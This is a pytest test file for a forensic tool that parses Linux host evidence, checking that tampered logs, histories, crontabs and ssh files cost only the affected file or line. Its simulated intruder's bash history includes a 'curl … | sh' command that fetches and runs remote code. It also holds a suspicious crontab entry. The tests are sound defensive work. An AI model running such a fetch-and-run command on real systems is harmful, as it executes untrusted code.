"""One bad link, folder or line in an artifact location costs that one file or line.

An intruder who replaces `/var/log/auth.log` with a link to `/dev/null` must not hide
`auth.log.1` and `auth.log.2`; a history linked away must not hide another user's; an
sshd line dissect's field parser chokes on must not stop the auth log. Each case runs in
an ext4 image (mkfs.ext4 -d) and in a tar export, the two shapes host evidence takes.
"""

from __future__ import annotations

import io
import json
import os
import tarfile
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cloudir.analyze.parsers import ErrorLog, ParseOptions
from cloudir.analyze.parsers.host import parse
from tests.conftest import cloudir, ext4_image, query

PASSWD = (
    "root:x:0:0:root:/root:/bin/bash\n"
    "alice:x:1000:1000::/home/alice:/bin/bash\n"
    "bob:x:1001:1001::/home/bob:/bin/bash\n"
    "carol:x:1002:1002::/home/carol:/bin/bash\n"
)
FINGERPRINTLESS = (
    "Nov 26 05:00:00 h1 sshd[123]: Accepted publickey for alice from 203.0.113.5 port 50022 ssh2"
)


def failed(day: int, n: int, user: str = "root") -> str:
    return (
        f"Nov {day} 06:{n:02d}:00 h1 sshd[9{n}]: Failed password for {user} "
        f"from 198.51.100.{n} port 22 ssh2"
    )


ROTATED_1 = [failed(27, n) for n in range(6)]  # auth.log.1: 6 lines
ROTATED_2 = [FINGERPRINTLESS] + [failed(26, n, "bob") for n in range(4)]  # auth.log.2: 5 lines
BOB_HISTORY = ["id", "curl -s http://203.0.113.9/x | sh", "rm -f /tmp/x"]


def base_tree(root: Path) -> None:
    """What dissect needs to see a Debian host with three users."""
    for folder in ("etc", "var/log", "run", "sys", "tmp", "root", "home/alice", "home/bob",
                   "home/carol"):  # fmt: skip
        (root / folder).mkdir(parents=True, exist_ok=True)
    (root / "etc/os-release").write_text("ID=debian\nVERSION_ID=12\n")
    (root / "etc/hostname").write_text("h1\n")
    (root / "etc/passwd").write_text(PASSWD)
    (root / "var/log/auth.log.1").write_text("\n".join(ROTATED_1) + "\n")
    (root / "var/log/auth.log.2").write_text("\n".join(ROTATED_2) + "\n")
    (root / "home/bob/.bash_history").write_text("\n".join(BOB_HISTORY) + "\n")


def as_tar(root: Path) -> Path:
    export = root.parent / "fs.tar"
    with tarfile.open(export, "w") as tar:
        tar.add(root, arcname=".")
    return export


def as_ext4(root: Path) -> Path:
    return ext4_image(root, root.parent / "disk.raw", "16M")


PACKERS: dict[str, Callable[[Path], Path]] = {"tar": as_tar, "ext4": as_ext4}


def read(evidence: Path) -> tuple[list[dict[str, Any]], list[str]]:
    errors = ErrorLog("item", evidence.name)
    rows = [
        row
        for batch in parse(evidence, "item", errors, ParseOptions(fs_timeline=False))
        for row in batch.to_pylist()
    ]
    reasons = [entry["reason"] for entry in errors.entries]
    for reason in reasons:
        assert "\n" not in reason and "Traceback" not in reason, reason
    return rows, reasons


def auth_messages(rows: list[dict[str, Any]]) -> list[str]:
    return sorted(json.loads(r["raw"])["message"] for r in rows if r["artifact"] == "linux:auth")


def expected_auth(*files: list[str]) -> list[str]:
    """The message dissect keeps of a line: what follows `program[pid]: `."""
    return sorted(line.split("]: ", 1)[1] for lines in files for line in lines)


def naming(reasons: list[str], path: str) -> list[str]:
    return [r for r in reasons if f" {path} not read: " in r]


@pytest.fixture(params=sorted(PACKERS))
def packed(request: pytest.FixtureRequest, tmp_path: Path) -> Callable[[Callable], Path]:
    """Builds the tree, lets the test spoil it, packs it as a tar export or ext4 image."""

    def build(spoil: Callable[[Path], None]) -> Path:
        root = tmp_path / "root"
        base_tree(root)
        spoil(root)
        return PACKERS[request.param](root)

    return build


# -- auth.log and its rotations -------------------------------------------------------------
def test_auth_log_linked_to_dev_null_leaves_the_rotated_logs_read(packed: Callable) -> None:
    evidence = packed(lambda root: os.symlink("/dev/null", root / "var/log/auth.log"))
    rows, reasons = read(evidence)
    assert auth_messages(rows) == expected_auth(ROTATED_1, ROTATED_2)
    assert len(auth_messages(rows)) == 11
    [why] = naming(reasons, "/var/log/auth.log")
    assert why == (
        "authlog: /var/log/auth.log not read: a link to /dev/null, which does not exist in "
        "the image; the other authlog files are read"
    )
    assert [r for r in reasons if r.startswith("authlog")] == [why]


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        (lambda log: os.symlink("/nowhere/auth", log),
         "a link to /nowhere/auth, which does not exist in the image"),
        (lambda log: os.symlink("/var/log/sub", log),
         "a link to /var/log/sub, a directory in the image, not a file"),
        (lambda log: os.symlink("auth.log", log), "a link loop (-> auth.log)"),
        (lambda log: log.mkdir(), "a directory, not a file"),
    ],
    ids=["missing", "directory-link", "loop", "directory"],
)  # fmt: skip
def test_each_bad_auth_log_costs_that_file(
    packed: Callable, make: Callable[[Path], None], reason: str
) -> None:
    def spoil(root: Path) -> None:
        (root / "var/log/sub").mkdir()
        make(root / "var/log/auth.log")

    rows, reasons = read(packed(spoil))
    assert auth_messages(rows) == expected_auth(ROTATED_1, ROTATED_2)
    [why] = naming(reasons, "/var/log/auth.log")
    assert f"not read: {reason};" in why


def test_a_loop_of_two_links_and_a_folder_named_auth_log_1(packed: Callable) -> None:
    def spoil(root: Path) -> None:
        log = root / "var/log"
        (log / "auth.log.1").unlink()
        (log / "auth.log.1").mkdir()
        os.symlink("auth.log.4", log / "auth.log.3")
        os.symlink("auth.log.3", log / "auth.log.4")
        (log / "auth.log").write_text(failed(28, 1) + "\n")

    rows, reasons = read(packed(spoil))
    assert auth_messages(rows) == expected_auth([failed(28, 1)], ROTATED_2)
    assert "a directory, not a file" in naming(reasons, "/var/log/auth.log.1")[0]
    assert "a link loop (-> auth.log.4)" in naming(reasons, "/var/log/auth.log.3")[0]
    assert "a link loop (-> auth.log.3)" in naming(reasons, "/var/log/auth.log.4")[0]


def test_a_link_never_leaves_the_image_for_the_examiners_host(
    packed: Callable, tmp_path: Path
) -> None:
    """The link names a real log on the examiner's machine: it is read as a path in the
    image, where it does not exist."""
    outside = tmp_path / f"host-only-{uuid.uuid4().hex}"
    outside.mkdir()
    (outside / "auth.log").write_text(failed(29, 7, "examiner") + "\n")
    evidence = packed(lambda root: os.symlink(outside / "auth.log", root / "var/log/auth.log"))
    rows, reasons = read(evidence)
    assert not [m for m in auth_messages(rows) if "examiner" in m]
    assert auth_messages(rows) == expected_auth(ROTATED_1, ROTATED_2)
    [why] = naming(reasons, "/var/log/auth.log")
    assert "which does not exist in the image" in why


def test_an_unreadable_rotated_log_costs_that_file(packed: Callable) -> None:
    """A rotated log that claims to be gzip and is not: dissect cannot decompress it."""

    def spoil(root: Path) -> None:
        (root / "var/log/auth.log.1.gz").write_bytes(b"\x1f\x8b\x08\x00" + b"\xff" * 64)
        (root / "var/log/auth.log").write_text(failed(28, 1) + "\n")

    rows, reasons = read(packed(spoil))
    assert auth_messages(rows) == expected_auth([failed(28, 1)], ROTATED_1, ROTATED_2)
    [why] = [r for r in reasons if r.startswith("authlog: /var/log/auth.log.1.gz stopped after 0")]
    assert "Error" in why


def test_a_link_to_a_log_inside_the_image_is_read(packed: Callable) -> None:
    def spoil(root: Path) -> None:
        (root / "var/keep").mkdir()
        (root / "var/keep/real").write_text(failed(28, 3, "mallory") + "\n")
        os.symlink("../keep/real", root / "var/log/auth.log")

    rows, reasons = read(packed(spoil))
    assert auth_messages(rows) == expected_auth([failed(28, 3, "mallory")], ROTATED_1, ROTATED_2)
    assert not [r for r in reasons if r.startswith("authlog")], reasons


# -- one line ---------------------------------------------------------------------------------
def test_accepted_publickey_without_a_fingerprint_is_a_success_row(packed: Callable) -> None:
    rows, reasons = read(packed(lambda root: None))
    assert not [r for r in reasons if r.startswith("authlog")], reasons
    [login] = [r for r in rows if "Accepted publickey" in r["message"]]
    assert (login["user"], login["src_ip"], login["outcome"]) == ("alice", "203.0.113.5", "success")
    assert login["action"] == "sshd:accepted authentication"
    raw = json.loads(login["raw"])
    assert (raw["port"], raw["authentication_type"], raw["ssh_protocol"]) == (
        50022,
        "publickey",
        "ssh2",
    )
    assert len(auth_messages(rows)) == 11  # the other lines are read too


def test_a_line_without_a_timestamp_costs_that_line_and_is_counted(packed: Callable) -> None:
    def spoil(root: Path) -> None:
        lines = [ROTATED_1[0], "garbage without a time", ROTATED_1[1], "\x00\x01 binary"]
        (root / "var/log/auth.log").write_text("\n".join(lines) + "\n")

    rows, reasons = read(packed(spoil))
    assert auth_messages(rows) == expected_auth(ROTATED_1[:2], ROTATED_1, ROTATED_2)
    assert (
        "authlog: /var/log/auth.log: 2 lines not read: no timestamp dissect recognises" in reasons
    )


def test_a_malformed_key_fingerprint_keeps_the_lines_other_fields(packed: Callable) -> None:
    odd = (
        "Nov 28 07:00:00 h1 sshd[5]: Accepted publickey for eve from 192.0.2.1 port 1 "
        "ssh2: RSA nokey"
    )
    rows, reasons = read(packed(lambda root: (root / "var/log/auth.log").write_text(odd + "\n")))
    [row] = [r for r in rows if "for eve" in r["message"]]
    assert (row["user"], row["src_ip"], row["outcome"]) == ("eve", "192.0.2.1", "success")
    assert not [r for r in reasons if r.startswith("authlog")], reasons
    assert len(auth_messages(rows)) == 12


def test_a_field_parser_that_fails_keeps_the_line_as_text_and_says_so(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No dissect field parser but sshd's fails on a line today; one that does (a later
    dissect) must cost the fields of that line, never the line or the file."""
    from dissect.target.plugins.os.unix.log.auth import SudoService

    def broken(cls: type, message: str) -> dict[str, str]:
        raise IndexError("simulated parser failure")

    monkeypatch.setattr(SudoService, "parse", classmethod(broken))
    root = tmp_path / "root"
    base_tree(root)
    sudo = "Nov 28 07:00:00 h1 sudo[5]: alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id"
    (root / "var/log/auth.log").write_text(sudo + "\n")
    rows, reasons = read(as_tar(root))
    [row] = [r for r in rows if "COMMAND=/bin/id" in r["message"]]
    assert row["timestamp"] is not None and row["action"] == "sudo"
    [why] = [r for r in reasons if r.startswith("authlog: /var/log/auth.log: sudo fields")]
    assert "IndexError: simulated parser failure" in why and "kept as text" in why
    assert len(auth_messages(rows)) == 12


# -- shell histories and syslog ---------------------------------------------------------------
def history_of(rows: list[dict[str, Any]], user: str) -> list[str]:
    return [
        json.loads(r["raw"])["CommandLine"]
        for r in rows
        if r["artifact"] == "linux:bash_history" and r["user"] == user
    ]


def test_a_history_linked_away_does_not_hide_another_users(packed: Callable) -> None:
    def spoil(root: Path) -> None:
        os.symlink("/dev/null", root / "home/alice/.bash_history")
        os.symlink(".bash_history", root / "home/carol/.bash_history")  # a loop to itself

    rows, reasons = read(packed(spoil))
    assert sorted(history_of(rows, "bob")) == sorted(BOB_HISTORY)
    assert history_of(rows, "alice") == history_of(rows, "carol") == []
    assert "a link to /dev/null" in naming(reasons, "/home/alice/.bash_history")[0]
    assert "a link loop" in naming(reasons, "/home/carol/.bash_history")[0]


def test_a_syslog_link_loop_leaves_the_rotated_syslog_read(packed: Callable) -> None:
    line = "Nov 27 05:00:00 h1 cron[1]: (deploy) CMD (/tmp/x)"

    def spoil(root: Path) -> None:
        os.symlink("syslog", root / "var/log/syslog")
        (root / "var/log/syslog.1").write_text(line + "\nnot syslog\n")

    rows, reasons = read(packed(spoil))
    [cron] = [r for r in rows if r["artifact"] == "linux:cron"]
    assert cron["user"] == "deploy"
    assert "a link loop" in naming(reasons, "/var/log/syslog")[0]
    assert "syslog: /var/log/syslog.1: 1 lines not read: no timestamp dissect recognises" in reasons


KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGq3PmX3Cq9l0dX6CkqyF8uJ3lQ0mT6b0vQm3p0e7b6k"


@pytest.mark.parametrize("bad", ["/dev/null", "loop", "directory"])
def test_a_bad_crontab_or_ssh_file_of_one_user_leaves_the_others_read(
    packed: Callable, bad: str
) -> None:
    """dissect lists crontabs when its plugin starts (a loop there stopped all cron jobs)
    and reads every user's ssh files in one loop (one bad file stopped the rest)."""

    def spoil(root: Path) -> None:
        for folder in ("home/alice/.ssh", "home/bob/.ssh", "var/spool/cron/crontabs"):
            (root / folder).mkdir(parents=True, exist_ok=True)
        for name in ("home/alice/.ssh/authorized_keys", "home/alice/.ssh/known_hosts",
                     "var/spool/cron/crontabs/alice"):  # fmt: skip
            path = root / name
            if bad == "loop":
                os.symlink(path.name, path)
            elif bad == "directory":
                path.mkdir()
            else:
                os.symlink(bad, path)
        (root / "home/bob/.ssh/authorized_keys").write_text(f"{KEY} bob@laptop\n")
        (root / "home/bob/.ssh/known_hosts").write_text(f"git.example.org {KEY}\n")
        (root / "var/spool/cron/crontabs/bob").write_text("*/5 * * * * /tmp/.x/run\n")

    rows, reasons = read(packed(spoil))
    [key] = [r for r in rows if r["artifact"] == "linux:ssh_authorized_key"]
    assert (key["user"], key["target"]) == ("bob", "bob@laptop")
    [known] = [r for r in rows if r["artifact"] == "linux:ssh_known_host"]
    assert (known["user"], known["target"]) == ("bob", "git.example.org")
    [job] = [r for r in rows if r["artifact"] == "linux:cron_job"]
    assert (job["user"], job["target"]) == ("bob", "/tmp/.x/run")
    for path in ("/home/alice/.ssh/authorized_keys", "/home/alice/.ssh/known_hosts",
                 "/var/spool/cron/crontabs/alice"):  # fmt: skip
        assert len(naming(reasons, path)) == 1, (path, reasons)


# -- through the command line: errors.jsonl --------------------------------------------------
def test_timeline_names_the_bad_link_in_errors_jsonl(tmp_path: Path) -> None:
    root = tmp_path / "root"
    base_tree(root)
    os.symlink("/dev/null", root / "var/log/auth.log")
    image = as_ext4(root)
    case = tmp_path / "case"
    made = cloudir("capture", "files", "--case", str(case), str(image), "--json")
    assert made.code == 0, made.stderr
    result = cloudir("timeline", "--case", str(case), "--no-fs-timeline")
    assert result.code == 0, result.stderr
    [count] = query(case, "SELECT count(*) AS n FROM timeline WHERE artifact = 'linux:auth'")
    assert count["n"] == 11
    entries = [json.loads(x) for x in (case / "timeline/errors.jsonl").read_text().splitlines()]
    [entry] = [e for e in entries if "/var/log/auth.log not read" in e["reason"]]
    assert entry["path"].endswith("disk.raw")


# -- property: any mix of good and bad log files in a tar export -----------------------------
KINDS = ("real", "dev-null", "missing", "directory", "loop")
# path in the image -> the dissect function that reads it
LOCATIONS = {
    "var/log/auth.log": "authlog",
    "var/log/auth.log.1": "authlog",
    "var/log/auth.log.2": "authlog",
    "var/log/secure": "authlog",
    "var/log/syslog": "syslog",
    "var/log/syslog.1": "syslog",
    "var/log/messages": "syslog",
    "home/alice/.bash_history": "commandhistory",
    "home/bob/.bash_history": "commandhistory",
}
MTIME = 1_795_000_000  # 2026-11-18: the year dissect gives the Nov lines


def member(tar: tarfile.TarFile, name: str, kind: str, lines: list[str]) -> None:
    info = tarfile.TarInfo(f"./{name}")
    info.mtime = MTIME
    if kind == "real":
        data = "".join(f"{line}\n" for line in lines).encode()
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
        return
    info.type = tarfile.DIRTYPE if kind == "directory" else tarfile.SYMTYPE
    info.mode = 0o755 if kind == "directory" else 0o777
    own = name.rsplit("/", 1)[-1]
    info.linkname = {"dev-null": "/dev/null", "missing": "/gone/away", "loop": own}.get(kind, "")
    tar.addfile(info)


def skeleton(tar: tarfile.TarFile) -> None:
    for folder in ("etc", "var", "var/log", "run", "sys", "tmp", "root", "home", "home/alice",
                   "home/bob"):  # fmt: skip
        info = tarfile.TarInfo(f"./{folder}")
        info.type, info.mode, info.mtime = tarfile.DIRTYPE, 0o755, MTIME
        tar.addfile(info)
    for name, text in (("etc/os-release", "ID=debian\n"), ("etc/hostname", "h1\n"),
                       ("etc/passwd", PASSWD)):  # fmt: skip
        data = text.encode()
        info = tarfile.TarInfo(f"./{name}")
        info.size, info.mtime = len(data), MTIME
        tar.addfile(info, io.BytesIO(data))


def log_line(function: str, n: int, good: bool) -> str:
    """A line the function reads as one record, or (not good) one it cannot: a log line
    without a timestamp. Every history line is a command."""
    if function == "commandhistory":
        return f"echo {n}"
    if not good:
        return f"noise {n}"
    if function == "authlog":
        return failed(20 + n % 8, n % 60, "admin")
    return f"Nov {20 + n % 8} 05:{n % 60:02d}:00 h1 kernel[{n}]: event {n}"


files_strategy = st.dictionaries(
    st.sampled_from(sorted(LOCATIONS)),
    st.tuples(
        st.sampled_from(KINDS),
        st.lists(st.tuples(st.integers(0, 9_999), st.booleans()), min_size=1, max_size=5),
    ),
    min_size=1,
    max_size=len(LOCATIONS),
)


def messages_of(rows: list[dict[str, Any]], artifact: str) -> list[str]:
    return sorted(json.loads(r["raw"])["message"] for r in rows if r["artifact"] == artifact)


@settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(files=files_strategy)
def test_any_mix_of_log_files_costs_only_the_bad_ones(
    tmp_path: Path, files: dict[str, tuple[str, list[tuple[int, bool]]]]
) -> None:
    """Invariant: every line of a real file is a row or a counted error, every bad file is
    named once, nothing else is an error, no traceback."""
    contents = {
        name: [log_line(LOCATIONS[name], n, good) for n, good in spec]
        for name, (_, spec) in files.items()
    }
    export = tmp_path / f"{uuid.uuid4().hex}.tar"
    with tarfile.open(export, "w") as tar:
        skeleton(tar)
        for name, (kind, _) in sorted(files.items()):
            member(tar, name, kind, contents[name])
    rows, reasons = read(export)

    real = {name: contents[name] for name, (kind, _) in files.items() if kind == "real"}
    expected: dict[str, list[str]] = {"authlog": [], "syslog": [], "commandhistory": []}
    for name, lines in real.items():
        expected[LOCATIONS[name]] += [line for line in lines if not line.startswith("noise")]
        noise = sum(line.startswith("noise") for line in lines)
        counted = f"{LOCATIONS[name]}: /{name}: {noise} lines not read: no timestamp"
        assert sum(r.startswith(counted) for r in reasons) == (1 if noise else 0), reasons
    assert auth_messages(rows) == expected_auth(expected["authlog"])
    assert messages_of(rows, "linux:syslog") == sorted(
        line.split("]: ", 1)[1] for line in expected["syslog"]
    )
    for user in ("alice", "bob"):
        name = f"home/{user}/.bash_history"
        assert history_of(rows, user) == real.get(name, [])
    for name, (kind, _) in files.items():
        assert len(naming(reasons, f"/{name}")) == (0 if kind == "real" else 1), (name, reasons)
    unexpected = [r for r in reasons if " not read: " not in r and " lines not read: " not in r]
    assert [r for r in unexpected if not r.startswith("dissect skipped: No timestamp")] == []
    export.unlink()
